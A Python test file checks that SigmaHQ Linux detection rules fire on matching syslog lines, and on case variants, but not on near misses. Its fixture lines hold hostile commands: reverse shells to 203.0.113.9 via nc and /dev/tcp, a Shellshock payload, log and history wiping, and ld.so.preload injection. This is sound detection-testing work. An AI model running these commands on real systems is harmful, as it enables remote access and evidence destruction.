"""SigmaHQ's non-Windows rules, unmodified, each with a matching event, the same event in another
letter case, and a near miss: the rule fires on the first two and not on the third, on SQLite and
on Elasticsearch.

Rules of log sources govsoc collects (Linux syslog lines) get real lines, ingested through the
real parser and run by the real detection pass (which applies each rule's log-source condition).
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from govsoc.collectors import ingest_file
from govsoc.rules import detect, load_rules
from govsoc.rules.pipeline import rule_source_status
from govsoc.store.base import Query, Store

LINUX = "sigma/rules/linux"


@dataclass(frozen=True)
class Line:
    """A rule over syslog lines: (program, message) that fire it, in another case, and a near miss."""

    rule: str
    hit: tuple[str, str]
    case: tuple[str, str]
    miss: tuple[str, str]


LINES = [
    # history wiped; `history -r` only reads it
    Line("builtin/lnx_shell_clear_cmd_history.yml", ("bash", "HISTORY: PID=4120 UID=0 history -c"),
         ("bash", "HISTORY: PID=4120 UID=0 HISTORY -C"), ("bash", "HISTORY: PID=4120 UID=0 history -r")),
    # the rule's own false-positive filter: a rotated file (/syslog.) is not the live log
    Line("builtin/lnx_clear_syslog.yml", ("bash", "HISTORY: rm -f /var/log/syslog"),
         ("bash", "HISTORY: RM -F /VAR/LOG/SYSLOG"), ("bash", "HISTORY: rm -f /var/log/syslog.1")),
    # `exec 3<>` opens the socket read-write; `3<` alone is in no keyword
    Line("builtin/lnx_susp_dev_tcp.yml", ("bash", "HISTORY: exec 3<>/dev/tcp/203.0.113.9/4444"),
         ("bash", "HISTORY: EXEC 3<>/DEV/TCP/203.0.113.9/4444"), ("bash", "HISTORY: exec 3</dev/tcp/203.0.113.9/4444")),
    # the keyword has no letters: the case variant changes the rest of the line; the miss lacks `;`
    Line("builtin/lnx_shellshock.yml", ("httpd", "GET /cgi-bin/stat.cgi UA=() { :; }; /bin/id"),
         ("httpd", "GET /CGI-BIN/STAT.CGI UA=() { :; }; /BIN/ID"),
         ("httpd", "GET /cgi-bin/stat.cgi UA=() { :; } /bin/id")),
    # sshd only: the same words from another program are not sshd's
    Line("builtin/sshd/lnx_sshd_susp_ssh.yml", ("sshd", "error: Corrupted MAC on input. [preauth]"),
         ("sshd", "error: CORRUPTED MAC ON INPUT. [preauth]"), ("cron", "error: Corrupted MAC on input. [preauth]")),
    # `nc -e /bin/sh ` runs a shell for the peer; `nc -v` does not
    Line("builtin/lnx_shell_susp_rev_shells.yml", ("bash", "HISTORY: nc -e /bin/sh 203.0.113.9 4444"),
         ("bash", "HISTORY: NC -E /BIN/SH 203.0.113.9 4444"), ("bash", "HISTORY: nc -v /bin/sh 203.0.113.9 4444")),
    # a copy tool and a remote target (@ or :); plain cp is no tool of the rule
    Line("builtin/lnx_file_copy.yml", ("bash", "HISTORY scp backup.tar admin@203.0.113.9"),
         ("bash", "HISTORY SCP BACKUP.TAR ADMIN@203.0.113.9"), ("bash", "HISTORY cp backup.tar admin@203.0.113.9")),
    # a symbolic link to /etc/passwd; a hard link is not in the rule
    Line("builtin/lnx_symlink_etc_passwd.yml", ("bash", "HISTORY: ln -s /etc/passwd /tmp/p"),
         ("bash", "HISTORY: LN -S /ETC/PASSWD /TMP/P"), ("bash", "HISTORY: ln /etc/passwd /tmp/p")),
    # an Equation Group tool path; one letter off is another file
    Line("builtin/lnx_apt_equationgroup_lnx.yml", ("bash", "HISTORY: /tmp/ratload -s 10"),
         ("bash", "HISTORY: /TMP/RATLOAD -S 10"), ("bash", "HISTORY: /tmp/ratlord -s 10")),
    # |all: both keywords in one line; one of them is not enough
    Line("builtin/lnx_susp_jexboss.yml", ("java", "exec bash -c /bin/bash -i >&/dev/tcp/203.0.113.9/4444"),
         ("java", "EXEC BASH -C /BIN/BASH -I >&/DEV/TCP/203.0.113.9/4444"), ("java", "exec bash -c /bin/bash -i")),
    # the eBPF helper that writes user memory; the read helper is harmless
    Line("builtin/lnx_potential_susp_ebpf_activity.yml", ("kernel", "prog 17 uses bpf_probe_write_user helper"),
         ("kernel", "prog 17 uses BPF_PROBE_WRITE_USER helper"), ("kernel", "prog 17 uses bpf_probe_read_user helper")),
    # the preload file, not the loader's ordinary configuration
    Line("builtin/lnx_ldso_preload_injection.yml", ("bash", "HISTORY: echo /tmp/k.so > /etc/ld.so.preload"),
         ("bash", "HISTORY: ECHO /TMP/K.SO > /ETC/LD.SO.PRELOAD"),
         ("bash", "HISTORY: echo /opt/lib > /etc/ld.so.conf")),
    # a web server for exfiltration; an XML-RPC server is not in the list
    Line("builtin/lnx_shell_susp_commands.yml", ("bash", "HISTORY: python -m SimpleHTTPServer 8000"),
         ("bash", "HISTORY: PYTHON -M SIMPLEHTTPSERVER 8000"), ("bash", "HISTORY: python -m SimpleXMLRPCServer 8000")),
    # the stack protector caught an overflow; its start-up notice is not one
    Line("builtin/lnx_buffer_overflows.yml", ("sshd", "*** stack smashing detected ***: terminated"),
         ("sshd", "*** STACK SMASHING DETECTED ***: terminated"), ("sshd", "stack smashing protector enabled")),
    # all of selection_*: a new user in the root group; GID=1000 is an ordinary group
    Line("builtin/lnx_privileged_user_creation.yml",
         ("useradd", "new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash"),
         ("useradd", "NEW USER: NAME=JOHN, UID=0, GID=0, HOME=/HOME/JOHN, SHELL=/BIN/BASH"),
         ("useradd", "new user: name=ann, UID=1000, GID=1000, home=/home/ann, shell=/bin/bash")),
    # sniffing starts; leaving promiscuous mode ends it
    Line("builtin/lnx_shell_susp_log_entries.yml", ("kernel", "device eth0 entered promiscuous mode"),
         ("kernel", "device eth0 ENTERED PROMISCUOUS MODE"), ("kernel", "device eth0 left promiscuous mode")),
    # a refused zone transfer; an allowed one is routine
    Line("builtin/syslog/lnx_syslog_susp_named.yml", ("named", "client 203.0.113.9#4122: denied AXFR from 203.0.113.9"),
         ("named", "client 203.0.113.9#4122: DENIED AXFR FROM 203.0.113.9"),
         ("named", "client 203.0.113.9#4122: approved AXFR from 203.0.113.9")),
    # systemd says "Stopping" with a capital: the rule's lower-case keyword must still find it
    Line("builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml", ("systemd", "Stopping iptables firewall..."),
         ("systemd", "STOPPING IPTABLES firewall..."), ("systemd", "Starting iptables firewall...")),
    # crontab's own line; the same words from sshd are not the cron log source
    Line("builtin/cron/lnx_cron_crontab_file_modification.yml", ("crontab", "(root) REPLACE (root)"),
         ("crontab", "(root) replace (root)"), ("sshd", "(root) REPLACE (root)")),
    # vsftpd's refusal; the same text from proftpd is not vsftpd
    Line("builtin/vsftpd/lnx_vsftpd_susp_error_messages.yml", ("vsftpd", "Connection refused: tcp_wrappers denial."),
         ("vsftpd", "CONNECTION REFUSED: TCP_WRAPPERS DENIAL."),
         ("proftpd", "Connection refused: tcp_wrappers denial.")),
    # a Trojan verdict; the EICAR test file is a harmless FOUND
    Line("builtin/clamav/lnx_clamav_relevant_message.yml", ("clamd", "/srv/upload/a.exe: Win.Trojan.Agent-1 FOUND"),
         ("clamd", "/srv/upload/a.exe: win.trojan.agent-1 found"),
         ("clamd", "/srv/upload/t.com: Eicar-Test-Signature FOUND")),
    # a second user joined the session; one user is normal
    Line("builtin/guacamole/lnx_guacamole_susp_guacamole.yml",
         ("guacd", 'User "@a1" joined connection "$c9" (2 users now present)'),
         ("guacd", 'User "@a1" joined connection "$c9" (2 USERS NOW PRESENT)'),
         ("guacd", 'User "@a1" joined connection "$c9" (1 users now present)')),
]


T0 = datetime(2026, 11, 30, 2, 0, tzinfo=UTC)
KINDS = ("hit", "case", "miss")


def test_every_rule_of_a_collected_linux_source_is_in_the_table(corpus: Path) -> None:
    names = [row.rule for row in LINES]
    assert len(set(names)) == len(names)
    ruleset = load_rules([corpus / LINUX])
    assert ruleset.errors == []
    # Every rule of a collected Linux log source is in LINES.
    active = {ruleset.files[str(r.id)].relative_to(corpus / LINUX).as_posix()
              for r in ruleset.rules if rule_source_status(r)[0]}
    assert active == {row.rule for row in LINES}


def write_lines(path: Path) -> dict[int, tuple[str, str]]:
    """The syslog file; returns pid -> (rule, kind) (each line has its own pid)."""
    owners: dict[int, tuple[str, str]] = {}
    with path.open("w", encoding="utf-8") as out:
        for n, row in enumerate(LINES):
            for k, kind in enumerate(KINDS):
                pid = 1000 + 3 * n + k
                program, message = getattr(row, kind)
                stamp = T0 + timedelta(seconds=pid)
                out.write(f"{stamp:%b} {stamp.day:2d} {stamp:%H:%M:%S} web01 {program}[{pid}]: {message}\n")
                owners[pid] = (row.rule, kind)
    return owners


@pytest.mark.es
@pytest.mark.parametrize("kind", ["sqlite", "elasticsearch"])
def test_linux_line_rules_fire_on_their_lines_only(kind: str, request: pytest.FixtureRequest, corpus: Path,
                                                   tmp_path: Path) -> None:
    store: Store = request.getfixturevalue("sqlite_store" if kind == "sqlite" else "elastic9_store")
    log = tmp_path / "auth.log"
    owners = write_lines(log)
    summary = ingest_file(log, parser_id="linux.auth", store=store, data_dir=tmp_path / "state", timezone="UTC",
                          year=2026)
    assert (summary.receipt.created, summary.parse_failures) == (3 * len(LINES), 0)
    ruleset = load_rules([corpus / LINUX / row.rule for row in LINES])
    result = detect(store, ruleset)
    assert (result.rules, result.failed, result.no_source) == (len(LINES), [], {})
    by_event = {e.id: e.get("process.pid") for e in store.search(Query())}
    fired: dict[str, set[str]] = {}
    for alert in store.alerts():
        rule = ruleset.files[alert.rule_id].relative_to(corpus / LINUX).as_posix()
        fired.setdefault(rule, set()).update(owners[by_event[e]][1] for e in alert.event_ids
                                             if owners[by_event[e]][0] == rule)
    assert {row.rule: fired.get(row.rule, set()) for row in LINES} == {row.rule: {"hit", "case"} for row in LINES}
